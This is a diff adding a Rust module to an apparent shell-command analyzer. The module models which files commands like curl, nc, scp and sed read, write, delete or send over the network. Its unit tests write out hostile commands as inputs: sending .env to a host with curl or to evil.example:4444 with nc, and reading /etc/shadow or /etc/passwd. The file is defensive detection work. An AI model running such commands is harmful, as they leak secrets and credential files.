@@ -1,0 +1,459 @@
+//! The generic program model: what a knowledge-base entry's argument roles mean as
+//! effects. Option values first (files read or written, request data, URLs, commands
+//! and code they run), then the positional arguments by the entry's `args` role
+//! (possibly changed by a switch, as `sed -i` makes it `read_write`).
+
+use std::collections::HashSet;
+
+use crate::code::Lang;
+use crate::effect::{NetTarget, ShellEffect, ShellPath};
+use crate::kb::{ArgsRole, FlagRole, ProgramSpec};
+use crate::words::Expanded;
+
+use super::args::{self, Parsed, Until};
+use super::context::{ProgramModel, WalkCx};
+use super::programs::{interpreters, shells};
+use super::state::Stdin;
+use super::targets::{host_target, is_dev_sink, remote_spec, url_target};
+
+/// The model for every program whose arguments the knowledge base describes fully.
+pub(crate) struct ByRoles;
+
+impl ProgramModel for ByRoles {
+    fn run(&self, cx: &mut WalkCx<'_>, name: &str, spec: &ProgramSpec, args: &[Expanded]) {
+        let (parsed, _) = args::parse(spec, args, Until::End);
+        let mut out = Outgoing {
+            sends: false,
+            data_from: cx.subst_reads.to_vec(),
+            urls: Vec::new(),
+        };
+        let pattern_given = option_values(cx, name, &parsed, &mut out);
+        if parsed.has("-X") || parsed.has("--request") {
+            out.sends = true;
+        }
+        // A switch may change what the positionals are (`sed -i`); the last one wins.
+        let mut role = spec.args;
+        for s in &parsed.switches {
+            if let Some(r) = spec.switches.get(s) {
+                role = *r;
+            }
+        }
+        // An awk program given as the first positional is code.
+        if spec.args == ArgsRole::PatternRead
+            && !pattern_given
+            && Lang::of_program(name) == Lang::Awk
+            && let Some(program) = parsed.positional.first()
+        {
+            if program.dynamic {
+                cx.unparseable(format!("{name} runs a program computed at run time"));
+            } else {
+                interpreters::inline_code(cx, name, &program.text);
+            }
+        }
+        // Programs whose first positional is a pattern or script keep skipping it when a
+        // switch changes what the rest are (`sed -i 's/a/b/' file`).
+        let skip = spec.skip + usize::from(spec.args == ArgsRole::PatternRead && !pattern_given);
+        let pos: Vec<Expanded> = parsed.positional.iter().skip(skip).cloned().collect();
+        if role != ArgsRole::Url {
+            connect_urls(cx, &out.urls, out.sends, &out.data_from);
+        }
+        dedup(&mut out.data_from);
+        positionals(cx, name, role, &parsed, &pos, out);
+    }
+}
+
+/// What a command sends over the network, as its options say.
+struct Outgoing {
+    /// Whether data leaves with the request (a body, an upload, `-X POST`).
+    sends: bool,
+    /// Files whose content is sent (request data, uploads, what substitutions in the
+    /// command's words read).
+    data_from: Vec<ShellPath>,
+    /// URLs given as option values.
+    urls: Vec<Expanded>,
+}
+
+/// The effects of the option values; returns whether a pattern was given as an option
+/// (`grep -e`), so that the first positional is not the pattern.
+fn option_values(cx: &mut WalkCx<'_>, name: &str, parsed: &Parsed, out: &mut Outgoing) -> bool {
+    let mut pattern_given = false;
+    for (flag, role, v) in &parsed.flags {
+        match role {
+            FlagRole::Value => {}
+            FlagRole::Read => {
+                if v.text != "-" {
+                    cx.read(v);
+                }
+            }
+            FlagRole::Write => {
+                if v.text != "-" && !is_dev_sink(&v.text) {
+                    cx.write(v);
+                }
+            }
+            FlagRole::Delete => cx.delete(v),
+            FlagRole::Dir => cx.dir = Some(cx.path(v)),
+            FlagRole::Data | FlagRole::Upload | FlagRole::Form => {
+                out.sends = true;
+                request_data(cx, *role, v, &mut out.data_from);
+            }
+            FlagRole::Url => out.urls.push(v.clone()),
+            FlagRole::Command => {
+                if v.dynamic {
+                    cx.unparseable(format!("{name} {flag} runs a command computed at run time"));
+                } else {
+                    cx.child_script(&v.text, cx.stdin);
+                }
+            }
+            FlagRole::Code => {
+                if v.dynamic {
+                    cx.unparseable(format!("{name} {flag} runs code computed at run time"));
+                } else {
+                    interpreters::inline_code(cx, name, &v.text);
+                }
+            }
+            FlagRole::Pattern => pattern_given = true,
+            FlagRole::Listen => cx.unparseable(format!("{name} {flag} opens a listening socket")),
+            FlagRole::Library => {
+                cx.unparseable(format!("{name} {flag} loads native code from {:?}", v.text))
+            }
+        }
+    }
+    pattern_given
+}
+
+/// A request-data option's file: `-d @file` (data), `-T file` (upload), `-F name=@file`
+/// (form); `@-` sends stdin.
+fn request_data(cx: &mut WalkCx<'_>, role: FlagRole, v: &Expanded, data_from: &mut Vec<ShellPath>) {
+    let file = match role {
+        FlagRole::Data => v.text.strip_prefix('@'),
+        FlagRole::Upload => Some(v.text.as_str()),
+        _ => v
+            .text
+            .split_once("=@")
+            .or_else(|| v.text.split_once("=<"))
+            .map(|(_, f)| f),
+    };
+    match file {
+        Some("-") | Some("") => data_from.extend(cx.stdin.data()),
+        Some(f) => {
+            let f = f.split(';').next().unwrap_or(f);
+            let p = cx.path(&Expanded {
+                text: f.into(),
+                ..v.clone()
+            });
+            cx.emit(ShellEffect::Read(p.clone()));
+            data_from.push(p);
+        }
+        None => {}
+    }
+}
+
+/// The effects of the positional arguments `pos` (after the skipped ones) in `role`.
+fn positionals(
+    cx: &mut WalkCx<'_>,
+    name: &str,
+    role: ArgsRole,
+    parsed: &Parsed,
+    pos: &[Expanded],
+    out: Outgoing,
+) {
+    match role {
+        ArgsRole::None
+        | ArgsRole::Read
+        | ArgsRole::Write
+        | ArgsRole::Delete
+        | ArgsRole::ReadWrite
+        | ArgsRole::Target
+        | ArgsRole::Copy
+        | ArgsRole::Move
+        | ArgsRole::PatternRead => files(cx, role, parsed, pos),
+        ArgsRole::Url => {
+            let Outgoing {
+                sends,
+                mut data_from,
+                mut urls,
+            } = out;
+            urls.extend(pos.iter().cloned());
+            if cx.stdin.is_data() && matches!(cx.stdin, Stdin::Pipe(_) | Stdin::File(_)) && sends {
+                data_from.extend(cx.stdin.data());
+            }
+            dedup(&mut data_from);
+            let sends = sends || !data_from.is_empty();
+            connect_urls(cx, &urls, sends, &data_from);
+        }
+        ArgsRole::Netcat => netcat(cx, name, parsed, pos, out.data_from),
+        ArgsRole::RemoteCopy => remote_copy(cx, pos),
+        ArgsRole::Shell => shells::shell(cx, name, parsed),
+        ArgsRole::Interpreter => interpreters::scripts(cx, name, parsed, pos),
+        // Modelled in `programs`; reached here only through a switch that changes the role.
+        ArgsRole::Ssh
+        | ArgsRole::Command
+        | ArgsRole::Env
+        | ArgsRole::Xargs
+        | ArgsRole::Git
+        | ArgsRole::Find
+        | ArgsRole::Dd => {}
+    }
+}
+
+/// Roles whose positionals are files read, written or deleted.
+fn files(cx: &mut WalkCx<'_>, role: ArgsRole, parsed: &Parsed, pos: &[Expanded]) {
+    match role {
+        ArgsRole::Read | ArgsRole::PatternRead => pos.iter().for_each(|a| cx.read(a)),
+        ArgsRole::Write => {
+            for a in pos.iter().filter(|a| !is_dev_sink(&a.text)) {
+                cx.write(a);
+            }
+        }
+        ArgsRole::Delete => pos.iter().for_each(|a| cx.delete(a)),
+        ArgsRole::ReadWrite => {
+            for a in pos {
+                cx.read(a);
+                cx.write(a);
+            }
+        }
+        ArgsRole::Target => {
+            if let Some(last) = pos.last() {
+                cx.write(last);
+            }
+        }
+        ArgsRole::Copy | ArgsRole::Move => {
+            // With a target-directory option (`cp -t DIR`), every positional is a source.
+            let has_target = parsed.flags.iter().any(|(_, r, _)| *r == FlagRole::Write);
+            let n = pos.len();
+            for (i, a) in pos.iter().enumerate() {
+                if i + 1 == n && n > 1 && !has_target {
+                    cx.write(a);
+                } else {
+                    cx.read(a);
+                    if role == ArgsRole::Move {
+                        cx.delete(a);
+                    }
+                }
+            }
+        }
+        _ => {}
+    }
+}
+
+/// `nc HOST PORT`: a raw connection that carries stdin; `-l` listens.
+fn netcat(
+    cx: &mut WalkCx<'_>,
+    name: &str,
+    parsed: &Parsed,
+    pos: &[Expanded],
+    mut data_from: Vec<ShellPath>,
+) {
+    if parsed.letters.contains(&'l') {
+        cx.unparseable(format!("{name} -l opens a listening socket"));
+    }
+    let mut it = pos.iter();
+    if let Some(h) = it.next() {
+        let port = it.next().and_then(|p| p.text.parse().ok());
+        data_from.extend(cx.stdin.data());
+        cx.emit(ShellEffect::Connect {
+            target: host_target(h, port),
+            sends: true,
+            data_from,
+        });
+    }
+}
+
+/// `scp`/`rsync`: `host:path` arguments are remote; the local sources are sent when the
+/// last argument (the target) is remote, and the last local argument is written when
+/// it is the target.
+fn remote_copy(cx: &mut WalkCx<'_>, pos: &[Expanded]) {
+    let n = pos.len();
+    let last_remote = pos.last().and_then(|l| remote_spec(&l.text));
+    let mut locals = Vec::new();
+    for (i, a) in pos.iter().enumerate() {
+        match remote_spec(&a.text) {
+            Some(host) => {
+                let target = if a.dynamic {
+                    NetTarget::Dynamic {
+                        text: a.text.clone(),
+                    }
+                } else {
+                    NetTarget::Host { host, port: None }
+                };
+                let sends = i + 1 == n;
+                cx.emit(ShellEffect::Connect {
+                    target,
+                    sends,
+                    data_from: if sends { locals.clone() } else { Vec::new() },
+                });
+            }
+            None => {
+                let p = cx.path(a);
+                if i + 1 == n && last_remote.is_none() && n > 1 {
+                    cx.emit(ShellEffect::Write(p));
+                } else {
+                    cx.emit(ShellEffect::Read(p.clone()));
+                    locals.push(p);
+                }
+            }
+        }
+    }
+}
+
+/// A connection to each URL (computed ones become dynamic targets).
+fn connect_urls(cx: &mut WalkCx<'_>, urls: &[Expanded], sends: bool, data_from: &[ShellPath]) {
+    for u in urls {
+        cx.emit(ShellEffect::Connect {
+            target: url_target(u),
+            sends,
+            data_from: data_from.to_vec(),
+        });
+    }
+}
+
+/// Drops repeated paths, keeping the first of each.
+fn dedup(v: &mut Vec<ShellPath>) {
+    let mut seen = HashSet::new();
+    v.retain(|p| seen.insert(p.clone()));
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::analyze::testing::{Harness, path, run};
+
+    #[test]
+    fn readers_writers_and_deleters() {
+        assert_eq!(run(&ByRoles, &["cat", "a", "b"]), ["read a", "read b"]);
+        assert_eq!(run(&ByRoles, &["touch", "new"]), ["write new"]);
+        assert_eq!(run(&ByRoles, &["rm", "-rf", "build"]), ["delete build"]);
+        assert_eq!(run(&ByRoles, &["echo", "a", "b"]), Vec::<String>::new());
+    }
+
+    #[test]
+    fn copy_reads_sources_and_writes_the_target() {
+        assert_eq!(
+            run(&ByRoles, &["cp", "a", "b", "dir"]),
+            ["read a", "read b", "write dir"]
+        );
+        assert_eq!(run(&ByRoles, &["cp", "only"]), ["read only"]);
+        // With a target-directory option every positional is a source.
+        assert_eq!(
+            run(&ByRoles, &["cp", "-t", "dir", "a", "b"]),
+            ["write dir", "read a", "read b"]
+        );
+    }
+
+    #[test]
+    fn move_reads_and_deletes_sources_and_writes_the_target() {
+        assert_eq!(
+            run(&ByRoles, &["mv", "a", "b"]),
+            ["read a", "delete a", "write b"]
+        );
+    }
+
+    #[test]
+    fn target_writes_only_the_link() {
+        assert_eq!(
+            run(&ByRoles, &["ln", "-s", "/etc/passwd", "link"]),
+            ["write link"]
+        );
+    }
+
+    #[test]
+    fn a_switch_changes_the_role_and_the_pattern_is_skipped() {
+        assert_eq!(run(&ByRoles, &["sed", "s/a/b/", "f"]), ["read f"]);
+        assert_eq!(
+            run(&ByRoles, &["sed", "-i", "s/a/b/", "f"]),
+            ["read f", "write f"]
+        );
+        assert_eq!(run(&ByRoles, &["grep", "-e", "pat", "f"]), ["read f"]);
+    }
+
+    #[test]
+    fn option_values_with_file_roles() {
+        assert_eq!(
+            run(&ByRoles, &["sort", "-o", "out", "in"]),
+            ["write out", "read in"]
+        );
+        assert_eq!(
+            run(&ByRoles, &["sort", "-o", "/dev/null", "in"]),
+            ["read in"]
+        );
+        assert_eq!(
+            run(&ByRoles, &["make", "-C", "sub", "-f", "Mk"]),
+            ["read sub/Mk"]
+        );
+    }
+
+    #[test]
+    fn request_data_is_read_and_sent() {
+        assert_eq!(
+            run(&ByRoles, &["curl", "-d", "@.env", "https://x.example"]),
+            ["read .env", "send https://x.example [.env]"]
+        );
+        assert_eq!(
+            run(
+                &ByRoles,
+                &[
+                    "curl",
+                    "-F",
+                    "f=@a.txt;type=text/plain",
+                    "https://x.example"
+                ]
+            ),
+            ["read a.txt", "send https://x.example [a.txt]"]
+        );
+        assert_eq!(
+            run(&ByRoles, &["curl", "https://x.example"]),
+            ["connect https://x.example"]
+        );
+        assert_eq!(run(&ByRoles, &["curl", "$U"]), ["connect dynamic $U"]);
+    }
+
+    #[test]
+    fn stdin_is_sent_by_data_at_dash_and_by_netcat() {
+        let piped = || Harness::new().stdin(Stdin::Pipe(vec![path(".env")]));
+        assert_eq!(
+            piped().model(
+                &ByRoles,
+                &["curl", "--data-binary", "@-", "https://x.example"]
+            ),
+            ["send https://x.example [.env]"]
+        );
+        assert_eq!(
+            piped().model(&ByRoles, &["nc", "evil.example", "4444"]),
+            ["send evil.example:4444 [.env]"]
+        );
+        let listen = run(&ByRoles, &["nc", "-l", "4444"]);
+        assert!(
+            listen[0].starts_with("unparseable: nc -l opens a listening socket"),
+            "{listen:?}"
+        );
+    }
+
+    #[test]
+    fn remote_copy_sends_local_files_to_a_remote_target() {
+        assert_eq!(
+            run(&ByRoles, &["scp", ".env", "u@h.example:/tmp/"]),
+            ["read .env", "send h.example:? [.env]"]
+        );
+        assert_eq!(
+            run(&ByRoles, &["scp", "h.example:/etc/passwd", "copy"]),
+            ["connect h.example:?", "write copy"]
+        );
+    }
+
+    #[test]
+    fn options_that_run_code_or_listen() {
+        assert_eq!(
+            run(&ByRoles, &["python3", "-c", "open('/etc/shadow').read()"]),
+            ["read /etc/shadow"]
+        );
+        let computed = run(&ByRoles, &["python3", "-c", "$CODE"]);
+        assert!(
+            computed[0].starts_with("unparseable: python3 -c runs code computed"),
+            "{computed:?}"
+        );
+        assert_eq!(
+            run(&ByRoles, &["awk", "BEGIN { system(\"cat /etc/passwd\") }"]),
+            ["exec cat", "read /etc/passwd"]
+        );
+    }
+}
